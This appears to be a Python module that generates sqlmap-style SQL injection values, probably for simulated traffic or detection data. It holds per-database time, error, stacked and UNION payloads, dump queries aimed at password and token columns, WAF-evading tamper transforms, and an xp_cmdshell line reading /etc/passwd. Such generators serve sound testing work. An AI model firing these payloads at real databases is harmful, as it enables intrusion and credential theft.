"""SQL injection values as sqlmap sends them: its techniques in its order, its boundaries, its tampers.

sqlmap tests a parameter with the original value first, then a heuristic of stray quotes and
parentheses, then each technique of ``--technique=BEUSTQ`` under several boundaries (prefix and
suffix that close the original query), and once one works it extracts data with it, which is most of
its traffic (a boolean-blind dump is one request per bisection step of one character). Numbers,
marker strings and aliases are random per request, as sqlmap draws them.
"""

from __future__ import annotations

import random
import re
import string
from collections.abc import Iterator
from urllib.parse import quote

TECHNIQUES = ("boolean", "error", "union", "stacked", "time")
DBMS = ("mysql", "postgresql", "mssql", "oracle", "sqlite")
TAMPERS = (
    "space2comment",
    "space2plus",
    "space2randomblank",
    "randomcase",
    "between",
    "versionedkeywords",
    "equaltolike",
    "charencode",
    "chardoubleencode",
)
#: sqlmap's --random-agent draws from a file of old browser agents
RANDOM_AGENTS = [
    "Mozilla/5.0 (Windows; U; Windows NT 5.1; en-US; rv:1.9.0.13) Gecko/2009073022 Firefox/3.0.13",
    "Opera/9.80 (X11; Linux i686; U; en) Presto/2.2.15 Version/10.00",
    "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0; SLCC2; .NET CLR 2.0.50727)",
    "Mozilla/5.0 (X11; U; Linux i686; de; rv:1.9.2.3) Gecko/20100423 Ubuntu/10.04 (lucid) Firefox/3.6.3",
    "Mozilla/5.0 (Macintosh; U; Intel Mac OS X 10_6_2; en-us) AppleWebKit/531.21.8 (KHTML, like Gecko) "
    "Version/4.0.4 Safari/531.21.10",
    "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/535.1 (KHTML, like Gecko) Chrome/13.0.782.215 Safari/535.1",
]
TABLES = [
    "users",
    "user",
    "accounts",
    "admin",
    "members",
    "operators",
    "login",
    "credentials",
    "config",
    "tags",
    "customers",
    "employees",
    "auth_user",
    "wp_users",
    "sessions",
]
COLUMNS = [
    "username",
    "password",
    "passwd",
    "pass",
    "email",
    "name",
    "login",
    "hash",
    "token",
    "id",
    "role",
    "user_name",
    "pwd",
    "api_key",
    "secret",
]
SCHEMAS = ["information_schema", "mysql", "public", "dbo", "master", "hmi", "scada", "app", "plant", "web"]


def agent(rng: random.Random) -> str:
    """sqlmap's own user agent (its default) or one of --random-agent's."""
    if rng.random() < 0.55:
        return f"sqlmap/1.{rng.randint(2, 8)}.{rng.randint(1, 12)}#{rng.choice(['stable', 'dev'])} (https://sqlmap.org)"
    return rng.choice(RANDOM_AGENTS)


def _n(rng: random.Random) -> int:
    return rng.randint(1000, 9999)


def _s(rng: random.Random, k: int = 4) -> str:
    return "".join(rng.choice(string.ascii_letters) for _ in range(k))


def _marker(rng: random.Random) -> str:
    """sqlmap's delimiters of extracted values: 0x71 ('q') and three more random lower-case letters, in hex."""
    return "0x71" + "".join(f"{ord(rng.choice('bjkpqvxz')):02x}" for _ in range(3)) + "71"


def _boundary(rng: random.Random, orig: str) -> tuple[str, str]:
    """A prefix closing the original value's context and a suffix balancing or commenting out the rest."""
    s, n = _s(rng), _n(rng)
    return rng.choice(
        [
            (orig, ""),
            (orig, "-- -"),
            (orig, "#"),
            (f"{orig}'", f"AND '{s}'='{s}"),
            (f"{orig}'", "-- -"),
            (f"{orig}')", f"AND ('{s}'='{s}"),
            (f"{orig})", f"AND ({n}={n}"),
            (f'{orig}"', f'AND "{s}"="{s}'),
            (f"{orig}'", "#"),
            (f"{orig}%'", "AND '%'='"),
            (f"{orig})'", f"-- {s}"),
            ("-" + str(_n(rng)), ""),
        ]
    )


def _time(rng: random.Random, dbms: str, d: int) -> str:
    n = _n(rng)
    return rng.choice(
        {
            "mysql": [
                f"AND SLEEP({d})",
                f"AND (SELECT {n} FROM (SELECT(SLEEP({d}))){_s(rng)})",
                f"OR (SELECT {n} FROM (SELECT(SLEEP({d})))x)",
                f"AND {n}=BENCHMARK({d}000000,MD5(0x{_s(rng).encode().hex()}))",
                f"RLIKE SLEEP({d})",
            ],
            "postgresql": [f"AND {n}=(SELECT {n} FROM PG_SLEEP({d}))", f"AND {n}=(SELECT {n} FROM pg_sleep({d}))"],
            "mssql": [f"WAITFOR DELAY '0:0:{d}'", f"AND {n}=(SELECT COUNT(*) FROM sysusers AS sys1,sysusers AS sys2)"],
            "oracle": [f"AND {n}=DBMS_PIPE.RECEIVE_MESSAGE(CHR(113)||CHR(106)||CHR(118)||CHR(122),{d})"],
            "sqlite": [f"AND {n}=LIKE(CHAR(65,66,67,68,69,70,71),UPPER(HEX(RANDOMBLOB({d}00000000/2))))"],
        }[dbms]
    )


def _error(rng: random.Random, dbms: str) -> str:
    n, q1, q2 = _n(rng), _marker(rng), _marker(rng)
    chars = "+".join(f"CHAR({ord(c)})" for c in "q" + _s(rng, 3).lower() + "q")
    return rng.choice(
        {
            "mysql": [
                f"AND EXTRACTVALUE({n},CONCAT(0x5c,{q1},(SELECT (ELT({n}={n},1))),{q2}))",
                f"AND UPDATEXML({n},CONCAT(0x2e,{q1},(SELECT (ELT({n}={n},1))),{q2}),{_n(rng)})",
                f"AND (SELECT {n} FROM(SELECT COUNT(*),CONCAT({q1},(SELECT (ELT({n}={n},1))),{q2},FLOOR(RAND(0)*2))x "
                "FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)",
                f"OR EXP(~(SELECT * FROM (SELECT CONCAT({q1},(SELECT (ELT({n}={n},1))),{q2},0x78))x))",
            ],
            "postgresql": [
                f"AND {n}=CAST((CHR(113)||CHR(120)||CHR(107)||CHR(113))||(SELECT (CASE WHEN ({n}={n}) THEN 1 "
                f"ELSE 0 END))::text||(CHR(113)||CHR(118)||CHR(113)) AS NUMERIC)"
            ],
            "mssql": [
                f"AND {n}=CONVERT(INT,(SELECT {chars}+(SELECT (CASE WHEN ({n}={n}) THEN CHAR(49) ELSE CHAR(48) END))"
                f"+{chars}))",
                f"AND {n} IN (SELECT ({chars}+(SELECT (CASE WHEN ({n}={n}) THEN CHAR(49) ELSE CHAR(48) END))))",
            ],
            "oracle": [
                f"AND {n}=CTXSYS.DRITHSX.SN({n},(CHR(113)||CHR(122)||(SELECT (CASE WHEN ({n}={n}) THEN 1 ELSE 0 "
                "END) FROM DUAL)||CHR(113)))"
            ],
            "sqlite": [f"AND {n}=CAST((SELECT {q1}) AS INT)"],
        }[dbms]
    )


def _stacked(rng: random.Random, dbms: str, d: int) -> str:
    return rng.choice(
        {
            "mysql": [f";SELECT SLEEP({d})", f";SELECT BENCHMARK({d}000000,MD5(0x41))"],
            "postgresql": [f";SELECT PG_SLEEP({d})", f";SELECT pg_sleep({d})"],
            "mssql": [f";WAITFOR DELAY '0:0:{d}'", f";EXEC master..xp_cmdshell 'ping -n {d} 127.0.0.1'"],
            "oracle": [f";SELECT DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),{d}) FROM DUAL"],
            "sqlite": [f";SELECT LIKE(CHAR(65),UPPER(HEX(RANDOMBLOB({d}00000000/2))))"],
        }[dbms]
    )


def _extract(rng: random.Random, dbms: str, how: str, cols: int, at: int) -> str:
    """One request of the data dump, by the technique that worked."""
    table, col = rng.choice(TABLES), rng.choice(COLUMNS)
    schema = rng.choice(SCHEMAS)
    src = rng.choice(
        [
            f"{schema}.{table}",
            "INFORMATION_SCHEMA.TABLES",
            "INFORMATION_SCHEMA.COLUMNS",
            table,
            "mysql.user" if dbms == "mysql" else "pg_catalog.pg_tables",
        ]
    )
    if how == "union":
        q1, q2 = _marker(rng), _marker(rng)
        nulls = ["NULL"] * cols
        nulls[at] = (
            f"CONCAT({q1},IFNULL(CAST({col} AS NCHAR),0x20),{q2})"
            if dbms == "mysql"
            else f"(CHR(113)||COALESCE(CAST({col} AS VARCHAR(10000))::text,(CHR(32)))||CHR(113))"
        )
        return f"UNION ALL SELECT {','.join(nulls)} FROM {src}"
    inner = rng.choice(
        [
            f"SELECT IFNULL(CAST({col} AS NCHAR),0x20) FROM {src} ORDER BY {col} LIMIT {rng.randint(0, 40)},1",
            "SELECT IFNULL(CAST(DATABASE() AS NCHAR),0x20)",
            "SELECT IFNULL(CAST(@@version AS NCHAR),0x20)",
            f"SELECT COUNT(DISTINCT({col})) FROM {src}",
            f"SELECT IFNULL(CAST(table_name AS NCHAR),0x20) FROM INFORMATION_SCHEMA.TABLES WHERE "
            f"table_schema=0x{schema.encode().hex()} LIMIT {rng.randint(0, 20)},1",
        ]
    )
    cmp = f"ORD(MID(({inner}),{rng.randint(1, 32)},1))>{rng.choice([1, 48, 64, 96, 104, 108, 112, 116, 120, 127])}"
    if how == "time":
        return f"AND (SELECT {_n(rng)} FROM (SELECT(IF({cmp},SLEEP({rng.randint(1, 5)}),0)))x)"
    return f"AND {cmp}"


def sqlmap_values(
    rng: random.Random, orig: str, dbms: str, techniques: tuple[str, ...]
) -> Iterator[tuple[str, str, float]]:
    """(technique, parameter value, seconds the server takes to answer) in sqlmap's order: the
    original value, the heuristic, each technique under several boundaries (UNION after ORDER BY and
    NULL-list column probing), then the dump with the first technique that worked."""
    yield "original", orig, 0.0
    yield "heuristic", orig + "".join(rng.choice("'\"(),.") for _ in range(rng.randint(4, 10))), 0.0
    if rng.random() < 0.5:  # the WAF/IPS check: one request of many families at once
        yield (
            "waf",
            f"{_n(rng)} AND 1=1 UNION ALL SELECT 1,NULL,'<script>alert(\"XSS\")</script>',table_name "
            "FROM information_schema.tables WHERE 2>1--/**/; EXEC xp_cmdshell('cat ../../../etc/passwd')#",
            0.0,
        )
    d = rng.choice([1, 2, 3, 5, 5, 5, 7, 10])
    cols = rng.randint(1, 12)
    for tech in techniques:
        for _ in range(rng.randint(2, 10)):
            pre, suf = _boundary(rng, orig)
            if tech == "boolean":
                n, m = _n(rng), _n(rng)
                body = rng.choice(
                    [
                        f"AND {n}={n}",
                        f"AND {n}={m}",
                        f"OR NOT {n}={m}",
                        f"OR {n}={n}",
                        f"AND {n}={n} AND '{_s(rng)}'='{_s(rng)}'",
                        f"RLIKE (SELECT (CASE WHEN ({n}={n}) THEN 0x{_s(rng).encode().hex()} ELSE 0x28 END))",
                        f"AND MAKE_SET({n}={n},{_n(rng)})",
                    ]
                )
                wait = 0.0
            elif tech == "error":
                body, wait = _error(rng, dbms), 0.0
            elif tech == "union":
                for k in range(1, rng.randint(3, 14)):  # ORDER BY column probing
                    yield tech, f"{pre} ORDER BY {k}{' ' + suf if suf else ''}", 0.0
                k = rng.randint(1, 12)
                body, wait = "UNION ALL SELECT " + ",".join(["NULL"] * k), 0.0
                if rng.random() < 0.4:
                    nulls = ["NULL"] * cols
                    nulls[rng.randrange(cols)] = f"CONCAT({_marker(rng)},0x{_s(rng, 8).encode().hex()},{_marker(rng)})"
                    body = "UNION ALL SELECT " + ",".join(nulls)
            elif tech == "stacked":
                yield (
                    tech,
                    f"{pre}{_stacked(rng, dbms, d)}{suf if suf.startswith(('-', '#')) else '-- -'}",
                    d if rng.random() < 0.5 else 0.0,
                )
                continue
            else:
                body, wait = _time(rng, dbms, d), d if rng.random() < 0.5 else 0.0
            yield tech, f"{pre} {body}{' ' + suf if suf else ''}", wait
    how = techniques[0] if techniques[0] in ("union", "time") else "boolean"
    while True:
        pre, suf = _boundary(rng, orig)
        value = f"{pre} {_extract(rng, dbms, how, cols, rng.randrange(cols))}{' ' + suf if suf else ''}"
        yield "dump", value, (rng.uniform(0, 5) if how == "time" else 0.0)


_KEYWORD = re.compile(
    r"\b(SELECT|UNION|ALL|AND|OR|NOT|FROM|WHERE|ORDER|BY|SLEEP|CONCAT|CAST|CASE|WHEN|THEN|ELSE|END|"
    r"LIMIT|NULL|IFNULL|EXTRACTVALUE|UPDATEXML|WAITFOR|DELAY|BENCHMARK|CONVERT|CHAR|CHR|ORD|MID)\b",
    re.IGNORECASE,
)


def tamper(rng: random.Random, value: str, tampers: tuple[str, ...]) -> str:
    """``value`` through sqlmap's tamper scripts, in order."""
    for t in tampers:
        if t == "space2comment":
            value = value.replace(" ", "/**/")
        elif t == "space2plus":
            value = value.replace(" ", "+")
        elif t == "space2randomblank":
            value = re.sub(" ", lambda _: rng.choice(["\t", "\n", "\r", "\x0c"]), value)
        elif t == "randomcase":
            value = _KEYWORD.sub(
                lambda m: "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in m.group(0)), value
            )
        elif t == "between":
            value = re.sub(r"(\d+)=(\d+)", r"\1 BETWEEN \2 AND \2", value).replace(">", " NOT BETWEEN 0 AND ")
        elif t == "versionedkeywords":
            value = _KEYWORD.sub(lambda m: f"/*!{m.group(0)}*/", value)
        elif t == "equaltolike":
            value = re.sub(r"(?<=[\w'\"])=(?=[\w'\"])", " LIKE ", value)
        elif t == "charencode":
            value = "".join(f"%{ord(c):02X}" if ord(c) < 128 else c for c in value)
        elif t == "chardoubleencode":
            value = "".join(f"%25{ord(c):02X}" if ord(c) < 128 else c for c in value)
    return value


def encode(rng: random.Random, value: str, how: str) -> str:
    """A value as sqlmap puts it in a query or form: its own encoding keeping some characters (and a
    tamper's percent signs), every character, or plus for space."""
    if how == "sqlmap":
        return quote(value, safe="%=-_:/(),*'")
    if how == "full":
        return quote(value, safe="%" if "%" in value and re.search(r"%[0-9A-F]{2}", value) else "")
    if how == "double":
        return quote(quote(value, safe=""), safe="")
    return quote(value, safe="%'()*,").replace("%20", "+")
